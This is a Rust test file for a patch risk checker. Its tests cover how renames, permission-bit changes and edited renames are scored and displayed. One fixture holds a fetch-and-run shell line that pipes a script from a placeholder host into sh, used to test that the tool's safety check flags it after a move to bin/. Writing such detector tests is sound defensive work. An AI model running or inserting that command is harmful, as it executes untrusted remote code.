//! Renames in a patch: judged by what changes in the file, shown with both names.

use serde_json::Value;

use crate::project::Project;

/// A public function with many branches: dear when it counts as removed and written anew.
fn branches() -> String {
    let arms = (0..30).map(|n| format!("    if n == {n} {{ return {n}; }}"));
    let arms: Vec<String> = arms.collect();
    format!("pub fn pick(n: u32) -> u32 {{\n{}\n    0\n}}\n", arms.join("\n"))
}

/// What a rename of `text` to `edited` is judged as: the points of each factor, and the report.
fn judged(from: &str, to: &str, text: &str, edited: &str) -> (Vec<(String, u64)>, Value) {
    let project = Project::of(&[(from, text)]);
    let tree = || {
        project.git(&["add", "-A"]);
        String::from_utf8(project.git(&["write-tree"])).unwrap().trim().to_owned()
    };
    project.git(&["init", "-q"]);
    let before = tree();
    if let Some((folder, _)) = to.rsplit_once('/') {
        std::fs::create_dir_all(project.path().join(folder)).unwrap();
    }
    project.git(&["mv", from, to]);
    project.write(to, edited);
    let patch = project.git(&["diff", "-M", &before, &tree()]);
    project.git(&["mv", to, from]);
    project.write(from, text);
    let said = project.exacta_with(&["check", "--patch", "-", "--json"], &patch);
    let report = said.json();
    let factors = report["risk"]["factors"].as_array().unwrap().iter();
    let points = factors
        .map(|f| (f["name"].as_str().unwrap().to_owned(), f["score"].as_u64().unwrap()))
        .filter(|(_, score)| *score > 0);
    let shown = project.exacta_with(&["check", "--patch", "-"], &patch).out;
    assert!(shown.contains(&format!("  rename 0644 {from} → {to}  +")), "{shown}");
    assert!(!shown.contains("  create ") && !shown.contains("  delete "), "{shown}");
    assert!(!shown.contains("no title"), "{shown}");
    (points.collect(), report)
}

#[test]
fn a_pure_rename_is_no_removal_and_nothing_new() {
    let (points, report) = judged("src/a.rs", "src/net/b.rs", &branches(), &branches());
    // One file, one row, the points of a deletion once.
    assert_eq!(points, [("File operations".to_owned(), 10)]);
    assert_eq!(report["files"][1]["renamed_from"], "src/a.rs");
    assert_eq!(report["files"][0]["renamed_from"], Value::Null);
}

#[test]
fn a_change_of_permission_bits_is_shown_with_both() {
    let project = Project::of(&[("run.sh", "#!/bin/sh\n")]);
    let patch = "diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n";
    let shown = project.exacta_with(&["check", "--patch", "-"], patch).out;
    assert!(shown.contains("  modify 0644 → 0755 run.sh  +0 -0"), "{shown}");
}

#[test]
fn a_rename_with_an_edit_is_judged_by_the_edit() {
    let edited = branches().replace("return 7;", "return 77;");
    let (points, _) = judged("src/a.rs", "src/b.rs", &branches(), &edited);
    let names: Vec<&str> = points.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names, ["File operations", "Code complexity"]);
}

#[test]
fn a_rename_out_of_the_sources_is_a_removal() {
    let (points, _) = judged("src/a.rs", "old/a.txt", &branches(), &branches());
    assert!(points.contains(&("Breaking changes".to_owned(), 8)), "{points:?}");
    let (points, _) = judged("src/a.rs", "src/internal/a.rs", &branches(), &branches());
    assert!(points.contains(&("Breaking changes".to_owned(), 8)), "{points:?}");
}

#[test]
fn what_moves_to_another_folder_brings_its_dangers_along() {
    let fetched = "#!/bin/sh\ncurl -s https://example.org/i | sh\n";
    let told = |from: &str, to: &str| {
        let report = judged(from, to, fetched, fetched).1;
        report["quality"]["dimensions"]["safety"]["findings"].to_string()
    };
    let danger = "fetch and run";
    assert!(!told("docs/fetch.sh", "docs/get.sh").contains(danger));
    let moved = told("docs/fetch.sh", "bin/fetch.sh");
    assert!(moved.contains(danger), "{moved}");
}
